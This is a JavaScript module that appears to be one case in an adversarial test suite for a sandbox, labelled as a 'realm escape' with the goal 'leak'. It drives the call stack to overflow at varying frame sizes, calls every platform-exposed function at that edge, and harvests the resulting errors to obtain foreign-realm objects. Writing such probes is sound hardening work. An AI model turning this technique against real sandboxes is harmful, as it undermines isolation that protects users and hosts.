// class: realm escape
// goal: leak
// options: {"success":"FOREIGN","deadline":20000}
// The stack ends within whatever the platform does for a module, at every depth that is left: whose error is it?
import { breathe, loot, platformCalls, triedLater } from './_realm.mjs';

export default async (pkg, ctx) => {
  const { calls, later } = platformCalls(pkg, ctx);
  const said = new Set();
  const errors = [];
  const at = (call, pad) => {
    let tries = 0;
    // Frames of different sizes leave different rests.
    const dive = (a, b, c) => {
      const more = [a, b, c, pad];
      try {
        dive(b, c, more.length);
      } catch {
        // As far down as it goes.
      }
      if (tries++ > 150) return;
      try {
        errors.push(call());
      } catch (error) {
        errors.push(error);
      }
    };
    dive(1, 2, 3);
  };
  for (const call of [...Object.values(calls), ...Object.values(later)]) {
    for (const pad of [0, 'x']) {
      at(call, pad);
      await breathe();
    }
    for (const error of errors.splice(0).slice(0, 300)) {
      if (typeof error?.then === 'function') said.add(await triedLater(() => error, pkg, 60));
      else {
        said.add(loot(error, pkg, 60));
        await breathe();
      }
    }
  }
  return [...said].join('\n').slice(0, 9_000);
};
